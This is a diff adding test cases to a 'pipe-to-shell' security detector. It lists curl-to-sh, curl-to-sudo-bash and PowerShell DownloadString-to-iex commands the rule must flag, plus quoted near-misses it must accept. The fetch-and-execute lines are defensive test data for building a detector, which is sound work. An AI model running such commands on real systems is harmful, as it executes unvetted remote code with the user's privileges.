@@ -87,6 +87,10 @@ describe('security/pipe-to-shell', () => {
     'curl https://x.y | base64 -d | tee a.sh | sh',
     "iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/i.ps1'))",
     "DownloadString('https://x.y/i.ps1') | iex",
+    'curl "https://x.y/a|b" | sh',
+    "curl -H 'A: b; c' --data='d|e' https://x.y | sudo -E bash",
+    'curl "https://x.y/a|b;c" | tee "d|e" | sh',
+    'curl -H "A: \\"b|c\\"" https://x.y | sh',
   ]) {
     finds(body(`\`${command}\``), { at: shown(command) });
   }
@@ -99,6 +103,10 @@ describe('security/pipe-to-shell', () => {
     '| curl | https://x.y | show |',
     '`curl https://x.y | jq . | sh`',
     '`curl https://x.y || tee a | sh`',
+    '`curl https://x.y | grep "a|b" | sh`',
+    '`curl https://x.y; echo "a;b" | sh`',
+    '`echo "curl https://x.y | less" | sh`',
+    "Don't `curl https://x.y | less`; it's `cat a | sh`.",
     '`(New-Object Net.WebClient).DownloadFile("https://x.y", "a")`',
   ])
     accepts(body(text));
